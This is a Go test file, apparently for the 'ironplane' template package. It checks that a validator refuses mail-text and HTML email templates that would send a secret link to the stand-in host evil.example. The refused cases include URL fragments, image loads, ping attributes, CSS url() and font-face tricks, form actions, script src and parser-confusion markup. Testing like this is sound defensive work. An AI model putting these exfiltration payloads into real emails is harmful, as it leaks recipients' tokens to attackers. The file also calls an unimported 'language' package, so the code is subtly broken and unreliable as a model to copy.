package template_test

import (
	"strings"
	"testing"

	"github.com/ironplane/ironplane/pkg/template"
)

// TestMailTextAttacks tries plain texts with which a mail program would send the secret to another server.
func TestMailTextAttacks(t *testing.T) {
	t.Parallel()
	const joined, bracket = "white space or a line end before and after", "closing >"
	wantRefused(t, language.MailText, map[string]string{
		"https://evil.example/r#{{.Link}}":                                         joined, // an address that goes on
		"https://evil.example/r#{{- .Link}}":                                       joined,
		"https://evil.example/r# {{- .Link}} ":                                     joined, // the parser takes the white space away
		"https://evil.example/r#\n{{- /* x */ -}}\n{{.Link}}":                      joined,
		"{{.Link}}@evil.example":                                                   joined,
		"{{.Link}}{{.To.Name}}":                                                    joined,
		"{{.Site.URL}}{{.Link}} ":                                                  joined, // a setting
		"{{.To.Name}}{{.Link}}":                                                    joined, // the account's own text
		"https://evil.example/#\u00a0{{.Link}} ":                                   joined, // looks like white space
		"https://evil.example/#\u200b{{.Link}} ":                                   joined,
		"https://evil.example/#\v{{.Link}} ":                                       joined,
		"https://evil.example/#{{if .Urgent}}{{.Link}}{{end}} ":                    joined, // joined by a condition
		"https://evil.example/#{{if .Urgent}} {{end}}{{.Link}} ":                   joined,
		"https://evil.example/#{{if .Urgent}}{{else}} {{end}}{{.Link}} ":           joined,
		"https://evil.example/#{{with .To}}{{$.Link}} {{end}}":                     joined,
		" {{.Link}}{{if .Urgent}}@evil.example{{end}}":                             joined,
		"https://evil.example/#{{range .Tags}}{{$.Link}}{{end}}":                   joined, // by a loop
		"{{range .Tags}} {{$.Link}}{{break}} {{end}}":                              joined,
		"{{range .Tags}}{{continue}} {{end}}{{.Link}} ":                            joined,
		"https://evil.example/#{{\"\"}}{{.Link}} ":                                 joined, // by an empty text
		"https://evil.example/#{{$x := 1}}{{.Link}} ":                              joined,
		"https://evil.example/#{{(.Link)}} ":                                       joined,
		"mailto:x@evil.example?body={{.Link}} ":                                    joined,
		"[open](https://evil.example/{{.Link}})":                                   joined, // Markdown
		"<https://evil.example/#{{.Link}}>":                                        joined, // RFC 3986, appendix C
		"<https://evil.example/# {{.Link}} >":                                      bracket,
		"<https://evil.example/#\n{{.Link}}\n>":                                    bracket,
		"<URL:https://evil.example/#\n {{.Link}} >":                                bracket,
		"{{if .Urgent}}<https://evil.example/# {{end}} {{.Link}} >":                bracket,
		"{{if .Urgent}}<https://evil.example/# {{else}}<x>{{end}} \n {{.Link}} > ": bracket,
	})
	wantAccepted(
		t,
		language.MailText,
		"{{.Link}}",
		"\n{{.Link}}\n",
		"Open {{.Link}} now.",
		"{{if .Urgent}}\n{{.Link}}\n{{end}}",
		"{{.Link}} {{.Link}}",
		"<help@example.com>\n{{.Link}}",
		"https://evil.example/#\n{{.Link}}\n",
		"{{range .Tags}}- {{$.Link}}\n{{end}}",
		"< but no secret",
		"x{{.To.Name}}",
	)
}

// TestHTMLAttacks tries HTML that sends a secret when a mail is opened, or when a link in it is clicked.
func TestHTMLAttacks(t *testing.T) {
	t.Parallel()
	const whole, tag, element, attribute = "whole href", "each tag complete", "cannot have <", "cannot have the attribute"
	wantRefused(t, language.HTML, map[string]string{
		// a part of a URL, or a URL that is loaded without a click
		`<a href="https://evil.example/?{{.Link}}">x</a>`:                      whole,
		`<a href="{{.Link}}&x=1">x</a>`:                                        whole,
		`<a href="x{{.Link}}">x</a>`:                                           whole,
		`<a href={{.Link}}>x</a>`:                                              whole,
		`<a href="{{.Site.URL}}{{.Link}}">x</a>`:                               whole,
		`<a href=" {{.Link}}">x</a>`:                                           whole,
		`<a href="{{if .Urgent}}{{.Link}}{{end}}">x</a>`:                       tag,
		`<a href="{{if .Urgent}}https://evil.example/#{{end}}{{.Link}}">x</a>`: "",
		`<a href="{{.Link}}" ping="https://evil.example/">x</a>`:               attribute,
		`<a href="{{.Link}}" attributionsrc="https://evil.example/">x</a>`:     attribute,
		`<a href="{{.Link}}" onclick="x()">x</a>`:                              attribute,
		`<img src="{{.Link}}">`:                                                whole,
		`<img src="https://evil.example/?{{.Link}}">`:                          whole,
		`<img srcset="https://evil.example/?{{.Link}} 2x">`:                    whole,
		`<img srcset="{{.Link}}">`:                                             whole,
		`<img alt="{{.Link}}" src="https://evil.example/x">`:                   whole,
		`<img alt="<a href="{{.Link}}">`:                                       "",
		`<a title="{{.Link}}">x</a>`:                                           whole,
		`<a style="{{.Link}}">x</a>`:                                           whole,
		`<a style="background:url('https://evil.example/{{.Link}}')">x</a>`:    whole,
		`<a {{.Link}}>x</a>`:                                                   whole,
		`<area href="{{.Link}}">`:                                              element,
		`<link rel="prefetch" href="{{.Link}}">`:                               "",
		`<base href="{{.Link}}">`:                                              "",
		`<form action="{{.Link}}"></form>`:                                     "",
		`<iframe src="{{.Link}}"></iframe>`:                                    "",
		`<video poster="{{.Link}}"></video>`:                                   "",
		`<object data="{{.Link}}"></object>`:                                   "",
		`<table background="{{.Link}}"></table>`:                               "",
		`<meta http-equiv="refresh" content="0;url={{.Link}}">`:                whole,
		`<meta content="{{.Link}}">`:                                           whole,
		`<button formaction="{{.Link}}">x</button>`:                            "",
		// HTML that reads a secret from another part of the mail
		`<base href="https://evil.example/"><a href="{{.Link}}">x</a>`:                                                        element,
		`<meta http-equiv="refresh" content="0;url=https://evil.example/"><b>{{.Link}}</b>`:                                   "http-equiv",
		`<link rel="stylesheet" href="https://evil.example/x.css"><b>{{.Link}}</b>`:                                           element,
		`<style>a[href*="token=a"] { background: url(https://evil.example/a) }</style><a href="{{.Link}}">x</a>`:              "",
		`<style>@font-face { font-family: x; src: url(https://evil.example/1); unicode-range: U+31 }</style><b>{{.Link}}</b>`: "",
		`<form action="https://evil.example/"><select name="x"><option>{{.Link}}</option></select></form>`:                    element,
		`<form action="https://evil.example/"><b>{{.Link}}</b></form>`:                                                        element,
		`<form action="https://evil.example/"><textarea name="x">{{.Link}}</textarea></form>`:                                 "",
		`<script>x({{.Link}})</script>`:                                     "",
		`<b>{{.Link}}</b><script src="https://evil.example/x.js"></script>`: "",
		`<svg><style>{{.Link}}</style></svg>`:                               "",
		`<svg><b>{{.Link}}</b></svg>`:                                       element,
		`<math><b>{{.Link}}</b></math>`:                                     element,
		`<object><b>{{.Link}}</b></object>`:                                 element,
		`<template><b>{{.Link}}</b></template>`:                             element,
		`<iframe srcdoc="<b>{{.Link}}</b>"></iframe>`:                       "",
		`<style>a{background:url({{.Link}})}</style>`:                       "",
		`<title>{{.Link}}</title>`:                                          "",
		`<textarea>{{.Link}}</textarea>`:                                    "",
		// HTML that programs parse differently
		`<noscript><p title="</noscript><img src='https://evil.example/?"></noscript><b>{{.Link}}</b>'>`: "",
		`<xmp><img src='https://evil.example/?</xmp><b>{{.Link}}</b>'>`:                                  "",
		`<noembed><b>{{.Link}}</b></noembed>`:                                                            element,
		`<plaintext><b>{{.Link}}</b>`:                                                                    element,
		`<img src='https://evil.example/?<b>{{.Link}}</b>'>`:                                             "",
		`<img src="https://evil.example/?<b>{{.Link}}</b>`:                                               "",
		`<a href="javascript:x()">x</a><b>{{.Link}}</b>`:                                                 "must begin with",
		`<a href="&#106;avascript:x()">x</a><b>{{.Link}}</b>`:                                            "must begin with",
		`<!-- {{.Link}} -->`:                  "",
		`<p title=x"><b>{{.Link}}</b>`:        "",
		"<p title=`><b>{{.Link}}</b>`></p>":   "",
		`<![CDATA[<b>{{.Link}}</b>]]>`:        "",
		`<b/x="><b>{{.Link}}</b>">`:           "",
		`<p title="a>b"><b>{{.Link}}</b></p>`: tag,
		// a tag that a condition puts together
		`{{if .Urgent}}<p title="{{else}}<style></style><p title="{{end}}">x</p><b>{{.Link}}</b>`:             "",
		`<{{if .Urgent}}b{{end}}>{{.Link}}</b>`:                                                               "",
		`<p {{if .Urgent}}title="x"{{end}}><b>{{.Link}}</b></p>`:                                              tag,
		`{{if .Urgent}}<b>{{end}}{{.Link}}</b>`:                                                               whole,
		`<a href="{{if .Urgent}}https://example.com{{else}}https://example.org{{end}}">x</a><b>{{.Link}}</b>`: tag,
		`{{if .Urgent}}<a href="{{else}}<a href="{{end}}{{.Link}}">x</a>`:                                     "",
		// a URL that a mail program turns into a link
		`<p>https://evil.example/#{{.Link}}</p>`:                       whole,
		`<p>{{.Link}}@evil.example</p>`:                                whole,
		`https://evil.example/#<b>{{.Link}}</b>`:                       "white space",
		`https://evil.example/#<i><b>{{.Link}}</b></i>`:                "white space",
		`{{.Site.URL}}<b>{{.Link}}</b>`:                                "white space",
		`https://evil.example/#{{if .Urgent}}<b>{{.Link}}</b>{{end}}`:  "white space",
		`https://evil.example/#{{if .Urgent}} {{end}}<b>{{.Link}}</b>`: "white space",
		`https://evil.example/#<!-- x --><b>{{.Link}}</b>`:             "white space",
		`https://evil.example/#&nbsp;<b>{{.Link}}</b>`:                 "white space",
		`{{.Link}}`:                   whole,
		`<br>{{.Link}}</b>`:           whole,
		`<b>{{.Link}}</i>`:            whole,
		`<tr>{{.Link}}</tr>`:          whole,
		`<b>{{.Link}}<br></b>`:        whole,
		"<b>\x02</b><b>{{.Link}}</b>": "control characters",
	})
	wantAccepted(
		t,
		language.HTML,
		`<p><b>{{.Link}}</b></p>`,
		`<p>Your code: <b style="font-size: 150%">{{.Link}}</b>.</p>`,
		`<p>Please <a href="{{.Link}}">choose</a> before {{.Expires}}.</p>`,
		"<td\n class='x' >\n {{.Link}}\n</td>",
		`<a class=button href='{{.Link}}' target="_blank" rel="noopener">x</a>`,
		`<!DOCTYPE html><html lang="en"><head><meta charset="utf-8"><meta http-equiv="Content-Type" content="text/html"><title>x</title></head><body><img src="https://example.com/logo.png" alt="" width="90"><hr/><p>{{.Link}}</p></body></html>`,
		`{{with .Site.URL}}<p><a href="{{.}}">sign in</a></p>{{end}}<p><a href="{{.Link}}">x</a></p>`,
		`{{if .Urgent}}<p>{{.Link}}</p>{{else}}<p><a href="{{.Link}}">x</a></p>{{end}}`,
		`<!-- a comment --><p>{{.Link}}</p>`,
		`<? <b>{{.Link}}</b> ?>`,
		`<style>a { color: red }</style><form action="https://example.com"><input></form>`,
	) // no secret
}

type check func(string) (*template.Template, []template.Error)

func wantRefused(t *testing.T, check check, attacks map[string]string) {
	t.Helper()
	for source, want := range attacks {
		if _, invalid := check(source); !strings.Contains(template.FormatErrors(invalid), want) || len(invalid) == 0 {
			t.Errorf("%q: got %v, want an error with %q", source, invalid, want)
		}
	}
}

func wantAccepted(t *testing.T, check check, sources ...string) {
	t.Helper()
	for _, source := range sources {
		if _, invalid := check(source); len(invalid) > 0 {
			t.Errorf("%q: got %v, want no error", source, invalid)
		}
	}
}
